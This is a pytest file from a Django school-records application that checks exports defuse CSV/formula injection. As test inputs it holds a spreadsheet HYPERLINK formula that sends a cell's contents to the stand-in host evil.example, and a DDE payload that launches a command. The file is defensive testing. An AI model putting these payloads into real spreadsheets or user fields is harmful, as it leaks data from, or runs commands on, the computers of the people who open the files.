"""Exports never turn a user's text into a live formula (CSV/formula injection, issue 10 #6)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from campanella.interop.models import ImportKind
from campanella.interop.samples import template_csv, template_xlsx
from campanella.lib.spreadsheets import FORMULA_TRIGGERS, append_row, write_csv_row
from campanella.people.models import Student
from tests.conftest import Cast
from tests.interop.helpers import People, csv_bytes, messages, upload_and_apply

pytestmark = pytest.mark.django_db

EVIL_SURNAME = '=HYPERLINK("http://evil.example/leak?v="&B4,"x")'


def export(cast: Cast) -> list[list[object]]:
    url = reverse("grades:book_export", args=[cast.classroom_1a.pk, cast.maths.pk])
    response = cast.client_for(cast.teacher).get(url)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


def test_an_imported_formula_surname_is_exported_as_inert_text(cast: Cast) -> None:
    row = People().student_row("1A", cognome=EVIL_SURNAME)
    result = upload_and_apply(cast, csv_bytes([row]))
    assert result.applied, messages(result)
    student = Student.objects.get(surname=EVIL_SURNAME)
    cast.client_for(cast.teacher).post(
        reverse("grades:book_save", args=[cast.classroom_1a.pk, cast.maths.pk]),
        {"date": timezone.localdate().isoformat(), "kind": "orale", "weight": "1",
         f"voto-{student.pk}": "7"},
    )  # fmt: skip

    cells = [cell for row in export(cast) for cell in row]

    evil = [cell for cell in cells if str(cell.value).startswith(EVIL_SURNAME)]
    assert len(evil) == 1
    assert evil[0].data_type != "f"
    assert evil[0].value == student.full_name  # the text is kept, nothing added
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_a_formula_classroom_or_subject_name_is_inert_too(cast: Cast) -> None:
    cast.maths.name = "+cmd|' /C calc'!A0"
    cast.maths.save()
    cells = [cell for row in export(cast) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    (name,) = [cell for cell in cells if cell.value == "+cmd|' /C calc'!A0"]
    assert name.data_type == "s" and name.quotePrefix  # stays text even when edited


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_is_inert_in_xlsx_and_csv(trigger: str) -> None:
    from openpyxl import Workbook

    text = f"{trigger}1+1"
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, [text, -3, "Rossi"])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [cell.data_type for cell in cells] == ["s", "n", "s"]
    # XML reads a stored CR back as LF (line-end normalisation); the text is otherwise kept.
    assert [cell.value for cell in cells] == [text.replace("\r", "\n"), -3, "Rossi"]
    assert cells[0].quotePrefix

    out = io.StringIO()
    write_csv_row(csv.writer(out, delimiter=";"), [text, -3, "Rossi"])
    assert next(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        f"'{text}",
        "-3",
        "Rossi",
    ]


# A OneRoster bundle is a zip of the standard's files: no template of ours to download.
@pytest.mark.parametrize("kind", [k for k in ImportKind if k != ImportKind.ONEROSTER])
def test_the_import_templates_hold_no_formula(kind: str) -> None:
    for sheet in load_workbook(io.BytesIO(template_xlsx(kind))).worksheets:
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    text = template_csv(kind).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text), delimiter=";"):
        assert not [cell for cell in row if cell.startswith(FORMULA_TRIGGERS)]
